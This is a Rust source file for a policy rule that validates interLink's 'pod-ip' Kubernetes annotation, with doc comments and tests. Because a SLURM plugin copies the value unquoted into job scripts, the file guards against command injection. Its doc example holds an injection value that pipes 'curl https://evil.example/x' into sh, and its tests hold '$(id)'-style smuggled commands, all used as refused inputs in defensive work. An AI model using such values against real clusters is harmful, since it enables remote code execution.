//! # pod-ip
//!
//! ## What it refuses
//!
//! A value of `interlink.eu/pod-ip` that is
//!
//! - not exactly an IP address: with spaces around it, a port, a prefix length or a zone, or IPv4 written as IPv6;
//! - an address outside all ranges in `podIP.cidrs`; without a range, every address;
//! - one of the first two addresses or the last address of an IPv4 range that contains it, unless
//!   `podIP.allowReserved` is set or the range has fewer than four addresses;
//! - an IPv4 address whose last octet is outside `podIP.octetRange`, if that is set.
//!
//! In an audit of stored objects, an address that interLink assigned may be outside these ranges. interLink assigned
//! it if a field manager in `trustedFieldManagers` owns the annotation or, on a pod with the VPN, if no owner is
//! known.
//!
//! ## Why
//!
//! Without the VPN, interLink uses the value as the pod's address, unchecked. A pod can claim any address, even that
//! of another pod, and Services then send it that pod's traffic. interLink's SLURM plugin writes the value unquoted
//! into the job script, so text that is not an address runs as a command at the HPC centre. With the VPN, interLink
//! ignores the requested address and replaces it with the first free one, although its documentation says otherwise.
//! While any pod has an address in this annotation, interLink assigns that address to no other pod. interLink itself
//! never assigns the first two addresses of a range, nor the last one.
//!
//! ## How to fix it
//!
//! Remove the annotation; with the VPN, interLink picks an address. To request an address, set the annotation to a
//! free address in your virtual node's range, and to nothing else. The examples below use the setting
//! `podIP.cidrs: [10.244.0.0/16]`.
//!
//! ## Settings
//!
//! - `rules.pod-ip`: `Deny` (the default), `Warn` or `Ignore`.
//! - `podIP.cidrs`: the ranges of addresses that pods may request. There are none by default, so no address is
//!   allowed.
//! - `podIP.octetRange`: the least and the greatest last octet, `min` and `max`, of an IPv4 address. Not set by
//!   default.
//! - `podIP.allowReserved`: `true` allows the first two addresses and the last one of a range. The default is `false`.
//! - `trustedFieldManagers`: the field managers that count as interLink in an audit. The default is `vk`.
//!
//! ## References
//!
//! - interLink 0.6.2, `pkg/virtualkubelet/virtualkubelet.go`: `CreatePod` uses the address, `setupVPNPodIP` and
//!   `findFirstFreeIP` replace it with the VPN.
//! - interlink-slurm-plugin 0.6.1, `pkg/slurm/prepare.go`: `produceSLURMScript` copies the value into the job script.
//! - interLink's pod annotations reference: "`interlink.eu/pod-ip`".
//!
//! ## Refused
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/pod-ip: "10.244.1.100; curl https://evil.example/x | sh"
//! ```
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/pod-ip: "10.96.0.10"
//! ```
//!
//! ## Accepted
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/pod-vpn: "true"
//!     interlink.eu/pod-ip: "10.244.1.100"
//! ```

use std::net::IpAddr;

use ipnet::IpNet;

use super::{Finding, OF_PODS, Rule};
use crate::annotations::{POD_IP, POD_VPN};
use crate::kind::Carries;
use crate::settings::{Level, PodIp, Settings};
use crate::subject::{Hand, Subject};
use crate::text::{first_of, quote};

pub(super) const RULE: Rule = Rule {
    id: "pod-ip",
    refuses: "`pod-ip` that is not exactly an IP address, is outside the configured ranges, or reserved in one",
    default_level: Level::Deny,
    about_writers: false,
    subjects: OF_PODS,
    check,
};

fn check<'s>(subject: &'s Subject<'_>, settings: &Settings<'_>) -> Vec<Finding<'s>> {
    let has_vpn = subject.get(POD_VPN).is_some();
    let is_pod = subject.place.carries == Carries::Pod;
    let wrong = subject.get(POD_IP).and_then(|annotation| {
        let judged = match annotation.hand {
            // On a pod with the VPN, interLink writes here the address that it gave out, from a range of its own.
            Hand::InterLink => parse(&annotation.value, &settings.pod_ip).map(drop),
            Hand::Unknown if has_vpn && is_pod => parse(&annotation.value, &settings.pod_ip).map(drop),
            _ => judge(&annotation.value, &settings.pod_ip),
        };
        let (problem, mend) = judged.err()?;
        let problem = format!("{} {problem}", quote(&annotation.value));
        let mut finding = Finding::of_value(annotation, problem, mend);
        // With the VPN, the address is only asked for; without, it becomes the pod's.
        if !has_vpn {
            finding.judged.push(("as the pod's own", &annotation.value));
        }
        Some(finding)
    });
    wrong.into_iter().collect()
}

/// What is wrong with an address, and how to mend it.
fn judge(text: &str, allowed: &PodIp) -> Result<(), (String, String)> {
    let address = parse(text, allowed)?;
    if allowed.cidrs.is_empty() {
        return Err((
            "may not be asked for, since the policy's settings allow no range of addresses".to_owned(),
            "remove it, or have your range added to podIP.cidrs".to_owned(),
        ));
    }
    let mut around = allowed.cidrs.iter().filter(|range| range.contains(&address)).peekable();
    if around.peek().is_none() {
        return Err((
            "is outside the allowed ranges".to_owned(),
            format!("ask for an address in {}", list(&allowed.cidrs)),
        ));
    }
    if !allowed.allow_reserved
        && let Some(range) = around.find(|range| is_reserved(address, range))
    {
        return Err((
            format!("is reserved in {range}"),
            "ask for one that is not among the first two or the last of it".to_owned(),
        ));
    }
    if let (IpAddr::V4(address), Some(octets)) = (address, allowed.octet_range) {
        let last = address.octets()[3];
        if !(octets.min..=octets.max).contains(&last) {
            return Err((
                format!("ends in {last}, which interLink would not give out"),
                format!("ask for one that ends in {} to {}", octets.min, octets.max),
            ));
        }
    }
    Ok(())
}

/// The address, if the text is one as Go reads it and IPv4 only where it is written so.
fn parse(text: &str, allowed: &PodIp) -> Result<IpAddr, (String, String)> {
    let address = text.parse().map_err(|_| ("is not an IP address".to_owned(), instead(text, allowed)))?;
    let IpAddr::V6(address) = address else {
        return Ok(address);
    };
    if let Some(address) = address.to_ipv4_mapped() {
        return Err(("is IPv4 written as IPv6".to_owned(), format!("write {address}")));
    }
    if text.contains('.') {
        let hexadecimal = address.segments().map(|part| format!("{part:x}")).join(":");
        return Err(("mixes IPv4 and IPv6 notation".to_owned(), format!("write {hexadecimal}")));
    }
    Ok(address.into())
}

/// What to write in place of something else: the address in it, if it is one with space around or a prefix length.
fn instead(text: &str, allowed: &PodIp) -> String {
    let meant = text.split('/').next().unwrap_or_default().trim();
    match meant.parse::<IpAddr>() {
        Ok(_) => format!("write {meant}, and nothing else"),
        Err(_) if allowed.cidrs.is_empty() => "remove it".to_owned(),
        Err(_) => format!("write an address in {}, and nothing else", list(&allowed.cidrs)),
    }
}

/// Whether an address is one of the two first or the last of an IPv4 range of four or more.
fn is_reserved(address: IpAddr, range: &IpNet) -> bool {
    match (address, range) {
        (IpAddr::V4(address), IpNet::V4(range)) if range.prefix_len() <= 30 => {
            let first = range.network().to_bits();
            let last = range.broadcast().to_bits();
            [first, first + 1, last].contains(&address.to_bits())
        }
        _ => false,
    }
}

/// The ranges, for a message.
fn list(ranges: &[IpNet]) -> String {
    let ranges: Vec<_> = ranges.iter().map(IpNet::to_string).collect();
    first_of(&ranges)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::rules::testing::*;

    fn problem(text: &str, podip: &str) -> String {
        let json = format!(r#"{{"podIP": {podip}}}"#);
        let settings = settings(&json);
        let pod = pod(&[(POD_IP, text)]);
        let texts = texts(&check(&pod, &settings));
        assert!(texts.len() <= 1);
        texts.into_iter().next().unwrap_or_default()
    }

    const RANGE: &str = r#"{"cidrs": ["10.244.0.0/16"]}"#;

    #[test]
    fn reads_an_address_where_go_does() {
        let oracle = include_str!("../../tests/oracle/go-ips.jsonl");
        let mut count = 0;
        for line in oracle.lines() {
            let (text, expected): (String, Option<String>) = serde_json::from_str(line).unwrap();
            let read = text.parse::<IpAddr>().ok().map(|address| address.to_canonical());
            assert_eq!(read.map(|address| address.to_string()), expected, "{text:?}");
            count += 1;
        }
        assert_eq!(count, 5_032);
    }

    #[test]
    fn an_address_within_its_range_is_fine() {
        assert_eq!(problem("10.244.1.100", RANGE), "");
        assert_eq!(problem("2001:db8::5", r#"{"cidrs": ["10.0.0.0/8", "2001:db8::/64"]}"#), "");
    }

    #[test]
    fn what_is_no_address_to_the_letter_is_refused() {
        for text in [
            "",
            " 10.244.1.5",
            "10.244.1.5 ",
            "10.244.1.5\n",
            "10.244.1.5:80",
            "10.244.1.5/32",
            "[2001:db8::1]",
            "fe80::1%eth0",
            "010.244.1.5",
            "10.244.1",
            "0x0a.244.1.5",
            "10.244.1.5; id",
            "$(id)",
            "١٠.٢٤٤.١.٥",
        ] {
            assert!(problem(text, r#"{"cidrs": ["0.0.0.0/0", "::/0"]}"#).contains("is not an IP address"), "{text:?}");
        }
    }

    #[test]
    fn ipv4_written_as_ipv6_is_refused() {
        let all = r#"{"cidrs": ["0.0.0.0/0", "::/0"]}"#;
        for text in ["::ffff:10.244.1.5", "::ffff:0af4:105", "::FFFF:10.244.1.5", "0:0:0:0:0:ffff:af4:105"] {
            assert!(problem(text, all).ends_with("is IPv4 written as IPv6; write 10.244.1.5"), "{text}");
        }
        assert!(
            problem("64:ff9b::10.244.1.5", all)
                .ends_with("mixes IPv4 and IPv6 notation; write 64:ff9b:0:0:0:0:af4:105")
        );
        assert!(problem("::10.244.1.5", all).ends_with("write 0:0:0:0:0:0:af4:105"));
    }

    #[test]
    fn an_address_outside_the_ranges_is_refused() {
        assert_eq!(
            problem("10.245.1.5", RANGE),
            "\"10.245.1.5\" is outside the allowed ranges; ask for an address in 10.244.0.0/16"
        );
        let many = r#"{"cidrs": ["10.0.0.0/24", "10.0.1.0/24", "10.0.2.0/24", "10.0.3.0/24", "fd00::/64"]}"#;
        assert!(problem("10.1.0.5", many).ends_with("10.0.0.0/24, 10.0.1.0/24, 10.0.2.0/24 and 2 more"));
    }

    #[test]
    fn without_a_range_every_address_is_refused() {
        assert!(problem("10.244.1.5", "{}").contains("allow no range of addresses"));
    }

    #[test]
    fn reserved_addresses_are_refused() {
        for text in ["10.244.0.0", "10.244.0.1", "10.244.255.255"] {
            assert!(problem(text, RANGE).contains("is reserved in 10.244.0.0/16"), "{text}");
            assert_eq!(problem(text, r#"{"cidrs": ["10.244.0.0/16"], "allowReserved": true}"#), "");
        }
        for text in ["10.244.0.2", "10.244.255.254", "10.244.3.0", "10.244.3.255"] {
            assert_eq!(problem(text, RANGE), "", "{text}");
        }
    }

    #[test]
    fn small_and_ipv6_ranges_reserve_nothing() {
        for (text, range) in [("10.0.0.0", "10.0.0.0/31"), ("10.0.0.1", "10.0.0.1/32"), ("fd00::", "fd00::/64")] {
            assert_eq!(problem(text, &format!(r#"{{"cidrs": ["{range}"]}}"#)), "");
        }
        for text in ["10.0.0.0", "10.0.0.1", "10.0.0.3"] {
            assert!(problem(text, r#"{"cidrs": ["10.0.0.0/30"]}"#).contains("reserved"));
        }
        assert_eq!(problem("10.0.0.2", r#"{"cidrs": ["10.0.0.0/30"]}"#), "");
        assert!(problem("255.255.255.255", r#"{"cidrs": ["0.0.0.0/0"]}"#).contains("reserved"));
    }

    #[test]
    fn an_address_reserved_in_one_of_its_ranges_is_refused() {
        let nested = r#"{"cidrs": ["10.244.0.0/16", "10.244.1.0/24"]}"#;
        assert!(problem("10.244.1.255", nested).contains("reserved in 10.244.1.0/24"));
    }

    #[test]
    fn the_last_octet_keeps_its_bounds() {
        let bounded = r#"{"cidrs": ["10.244.0.0/16", "fd00::/64"], "octetRange": {"min": 10, "max": 20}}"#;
        for text in ["10.244.1.10", "10.244.1.20", "fd00::ff"] {
            assert_eq!(problem(text, bounded), "");
        }
        for text in ["10.244.1.9", "10.244.1.21"] {
            assert!(problem(text, bounded).ends_with("ask for one that ends in 10 to 20"), "{text}");
        }
    }

    proptest! {
        #[test]
        fn what_passes_is_made_of_address_characters(text in "[0-9a-f:.%/ ;$()\\[\\]-]{0,20}") {
            let settings = settings(r#"{"podIP": {"cidrs": ["0.0.0.0/0", "::/0"], "allowReserved": true}}"#);
            let pod = pod(&[(POD_IP, &text)]);
            if check(&pod, &settings).is_empty() {
                prop_assert!(text.chars().all(|c| c.is_ascii_hexdigit() || c == '.' || c == ':'));
            }
        }
    }

    #[test]
    fn on_a_stored_object_the_address_may_be_interlinks() {
        let problems = |annotations: &[(&'static str, &str)], hand: &Hand<'static>| {
            check(&written_by(pod(annotations), hand), &Settings::default()).len()
        };
        let (alone, with_vpn) = ([(POD_IP, "10.0.0.5")], [(POD_IP, "10.0.0.5"), (POD_VPN, "true")]);
        let kubectl = Hand::Manager("kubectl".into());
        for (hand, expected) in [(Hand::InterLink, [0, 0]), (Hand::Unknown, [1, 0]), (kubectl, [1, 1])] {
            assert_eq!([problems(&alone, &hand), problems(&with_vpn, &hand)], expected, "{hand:?}");
        }
        for hand in [Hand::InterLink, Hand::Unknown] {
            assert_eq!(problems(&[(POD_IP, "$(id)"), (POD_VPN, "true")], &hand), 1, "{hand:?}");
        }
        let template = written_by(carrier("Deployment", &with_vpn), &Hand::Unknown);
        assert_eq!(check(&template, &Settings::default()).len(), 1);
    }
}
